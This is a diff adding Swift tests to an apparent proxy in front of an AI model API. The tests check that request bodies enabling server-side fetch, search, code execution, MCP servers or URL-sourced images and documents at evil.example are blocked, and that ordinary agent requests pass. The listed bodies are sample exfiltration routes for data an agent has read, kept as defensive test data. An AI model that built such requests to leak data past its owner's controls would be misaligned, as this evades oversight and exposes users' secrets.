@@ -62,6 +62,47 @@ import WebServer
         }
     }
 
+    /// Bodies that would have the model's service reach out with what the agent has read.
+    static let waysOut = [
+        #"{"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}"#,
+        #"{"tools":[{"name":"Read","input_schema":{}},{"type":"web_search_20250305","name":"web_search"}]}"#,
+        #"{"tools":[{"type":"code_execution_20250825","name":"code_execution"}]}"#,
+        #"{"tools":[{"type":"mcp_toolset","mcp_server_name":"x"}]}"#,
+        #"{"tools":[{"type":["web_fetch_20250910"],"name":"web_fetch"}]}"#,
+        #"{"mcp_servers":[{"type":"url","url":"https://evil.example/sse","name":"x"}]}"#,
+        #"{"container":{"skills":[]}}"#,
+        #"{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?secret"}}]}]}"#,
+        #"{"messages":[{"role":"user","content":[{"type":"document","source":{"type":"url","url":"https://evil.example/a.pdf"}}]}]}"#,
+        #"{"messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/"}}]}]}]}"#,
+        #"{"messages":[{"role":"user","content":[{"type":"document","source":{"type":"content","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/"}}]}}]}]}"#,
+        #"{"tools":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}"#, "[]", "", "not JSON",
+    ]
+
+    @Test(arguments: waysOut)
+    func `the model's service is not made to reach out`(body: String) async throws {
+        try await ProxyRig.with { rig in
+            let answer = try await rig.send(body: body)
+            #expect(answer.status == 400)
+            #expect(rig.seen.isEmpty)
+        }
+    }
+
+    @Test(arguments: [
+        #"{"tools":[{"name":"Bash","input_schema":{"type":"object"}},{"type":"bash_20250124","name":"bash"},{"type":"custom","name":"x"}]}"#,
+        #"{"messages":[{"role":"user","content":"see https://example.com"},{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"Write","input":{"source":{"type":"url"}}}]}]}"#,
+        #"{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"aaaa"}}]}],"mcp_servers":null}"#,
+    ])
+    func `what an agent needs is let through`(body: String) async throws {
+        try await ProxyRig.with { rig in try await #expect(rig.send(body: body).status == 200) }
+    }
+
+    @Test func `a tool of the service that the owner allows is let through`() async throws {
+        try await ProxyRig.with(route: { $0.serviceTools = ["web_search_"] }) { rig in
+            try await #expect(rig.send(body: Self.waysOut[1]).status == 200)
+            try await #expect(rig.send(body: Self.waysOut[0]).status == 400)
+        }
+    }
+
     @Test func `a run that has spent its money is told so and asks no more`() async throws {
         try await ProxyRig.with(route: { $0.maximumCostUSD = 0.01 }) { rig in
             for _ in 0..<2 { try await #expect(rig.send(body: "{}").status == 200) }
